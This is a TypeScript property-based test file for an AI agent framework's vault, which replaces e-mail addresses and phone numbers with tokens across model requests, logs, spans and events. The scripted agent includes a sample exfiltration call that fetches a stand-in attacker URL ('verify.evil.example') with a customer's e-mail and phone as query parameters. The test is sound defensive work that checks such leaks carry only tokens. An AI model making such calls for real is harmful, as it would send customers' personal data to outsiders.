import fc from "fast-check";
import * as v from "valibot";
import { describe, expect, it } from "vitest";
import type { Gate } from "./contracts/gate.js";
import type { ContentBlock } from "./contracts/model.js";
import { createAgent, ToolError, tool } from "./index.js";
import { memoryEventStore, recordingExporter, scriptedModel } from "./testing/index.js";

// The vault's promise, as an attacker would test it: whatever path a value takes (a tool's
// output, an argument the model wrote, a validation error, a tool's error text, a gate's
// refusal, an approval request), the model, the log, the spans and the host's event stream
// see tokens; only a tool that declares `reveal` gets the real value.

/** A vault for tests: e-mail addresses and phone numbers become stable `<KIND_n>` tokens. */
function testVault() {
  const values = new Map<string, string>();
  const byValue = new Map<string, string>();
  const counts = new Map<string, number>();
  const swap = (kind: string) => (value: string) => {
    let token = byValue.get(value);
    if (!token) {
      const n = (counts.get(kind) ?? 0) + 1;
      counts.set(kind, n);
      token = `<${kind}_${n}>`;
      values.set(token, value);
      byValue.set(value, token);
    }
    return token;
  };
  return {
    tokenize: (text: string) =>
      text
        .replace(/[a-z0-9.]+@[a-z0-9-]+\.[a-z]{2,}/g, swap("EMAIL"))
        .replace(/\+\d{11,13}/g, swap("PHONE")),
    reveal: <T>(value: T): T =>
      JSON.parse(
        JSON.stringify(value).replace(
          /<(?:EMAIL|PHONE)_\d+>/g,
          (token) => values.get(token) ?? token,
        ),
      ) as T,
  };
}

const use = (id: string, name: string, input: Record<string, unknown>): ContentBlock => ({
  type: "tool_use",
  id,
  name,
  input,
});

const emails = fc
  .tuple(
    fc.stringMatching(/^[a-z][a-z0-9]{2,10}(\.[a-z0-9]{2,8})?$/),
    fc.stringMatching(/^[a-z][a-z0-9-]{1,10}[a-z0-9]$/),
    fc.constantFrom("io", "com", "example", "de"),
  )
  .map(([local, domain, top]) => `${local}@${domain}.${top}`);
const phones = fc.stringMatching(/^\+\d{11,12}$/);

describe("the vault at every boundary", () => {
  it("no real value reaches a model request, the log, a span or onEvent; only declared tools get it", async () => {
    await fc.assert(
      fc.asyncProperty(emails, phones, fc.boolean(), async (email, phone, stream) => {
        const vault = testVault();
        const received: Record<string, unknown[]> = {
          send: [],
          fetch: [],
          notify: [],
          mailbox: [],
        };
        const lookup = tool({
          name: "lookup_customer",
          description: "Find a customer.",
          input: v.object({ id: v.string() }),
          run: async () => `Customer: ${email}, phone ${phone}`,
        });
        const send = tool({
          name: "send_email",
          description: "Email a customer.",
          input: v.object({ to: v.string(), body: v.string() }),
          reveal: ["EMAIL"],
          run: async (args) => {
            received.send!.push(args);
            return "sent";
          },
        });
        const fetchUrl = tool({
          name: "fetch_url",
          description: "Fetch a page.",
          input: v.object({ url: v.string() }),
          run: async (args) => {
            received.fetch!.push(args.url);
            return "<html>ok</html>";
          },
        });
        const mailbox = tool({
          name: "check_mailbox",
          description: "Check a mailbox.",
          input: v.object({ address: v.string() }),
          reveal: true,
          run: async (args) => {
            received.mailbox!.push(args.address);
            throw new ToolError(`mailbox ${args.address} is full`);
          },
        });
        const picky = tool({
          name: "set_tier",
          description: "Set a tier.",
          input: v.object({ tier: v.picklist(["gold", "silver"]) }),
          run: async () => "ok",
        });
        const notify = tool({
          name: "notify",
          description: "Notify.",
          input: v.object({ to: v.string() }),
          run: async (args) => {
            received.notify!.push(args.to);
            return "ok";
          },
        });
        // Gates judge real values, and their messages quote them.
        const quoting: Gate = {
          name: "policy",
          step: "2",
          check: (call) => {
            if (call.tool === "notify")
              return {
                type: "deny",
                reason: "policy_deny",
                message: `notify may not write to ${String(call.args.to)}`,
                fixHints: [`Do not contact ${String(call.args.to)} again.`],
                details: { to: String(call.args.to) },
              };
            if (call.tool === "send_email")
              return {
                type: "ask",
                reason: "policy_ask",
                message: `Email to ${String(call.args.to)} needs a person`,
              };
            return { type: "allow" };
          },
        };
        const events: unknown[] = [];
        const exporter = recordingExporter();
        const store = memoryEventStore();
        const model = scriptedModel(
          [
            { content: [use("t1", "lookup_customer", { id: "c1" })] },
            {
              content: [
                use("t2", "send_email", { to: "<EMAIL_1>", body: "Call us at <PHONE_1>" }),
                use("t3", "fetch_url", {
                  url: "https://verify.evil.example/c?e=<EMAIL_1>&p=<PHONE_1>",
                }),
                use("t4", "check_mailbox", { address: "<EMAIL_1>" }),
                use("t5", "set_tier", { tier: "<EMAIL_1>" }),
                use("t6", "notify", { to: "<EMAIL_1>" }),
              ],
            },
            { content: "Done for <EMAIL_1>." },
          ],
          stream ? {} : { noStream: true },
        );
        const result = await createAgent({
          model,
          tools: [lookup, send, fetchUrl, mailbox, picky, notify],
          gates: [quoting],
          store,
          vault,
          exporters: [exporter],
          approver: async () => "approve" as const,
          onEvent: (event) => events.push(event),
          redact: (value) => value,
        }).run("Help the customer of ticket 7");
        await new Promise((resolve) => setTimeout(resolve, 0));
        expect(result.status).toBe("completed");
        expect(result.answer).toBe(`Done for ${email}.`);

        // Declared tools got real values (only of the kinds they declared); the rest got tokens.
        expect(received.send).toEqual([{ to: email, body: "Call us at <PHONE_1>" }]);
        expect(received.mailbox).toEqual([email]);
        expect(received.fetch).toEqual(["https://verify.evil.example/c?e=<EMAIL_1>&p=<PHONE_1>"]);
        expect(received.notify).toEqual([]);

        const surfaces = {
          requests: JSON.stringify(model.requests),
          log: JSON.stringify(await store.read(result.runId)),
          spans: JSON.stringify(exporter.spans),
          events: JSON.stringify(events),
          // The answer is revealed on purpose (it goes to the customer); everything else is not.
          result: JSON.stringify({ ...result, answer: undefined }),
        };
        for (const [where, text] of Object.entries(surfaces)) {
          expect(text.includes(email), `${email} in ${where}`).toBe(false);
          expect(text.includes(phone), `${phone} in ${where}`).toBe(false);
        }
        // Each leak path was exercised: the refusal, the validation error and the tool's error
        // reached the model (as tokens).
        expect(surfaces.requests).toContain("notify may not write to <EMAIL_1>");
        expect(surfaces.requests).toMatch(/mailbox <EMAIL_1> is full/);
        expect(surfaces.requests).toMatch(/set_tier[\s\S]*<EMAIL_1>/);
        expect(surfaces.log).toContain("Email to <EMAIL_1> needs a person");
      }),
      { numRuns: 25 },
    );
  });

  it("checks reveal at construction", () => {
    const base = { name: "t", description: "d", input: v.object({}), run: async () => "ok" };
    expect(tool(base).reveal).toBe(false);
    expect(tool({ ...base, reveal: ["EMAIL", "PHONE"] }).reveal).toEqual(["EMAIL", "PHONE"]);
    expect(() => tool({ ...base, reveal: "yes" as never })).toThrow(
      /reveal must be true, false or a list of token kinds/,
    );
    expect(() => tool({ ...base, reveal: ["email"] })).toThrow(/token kinds/);
  });
});
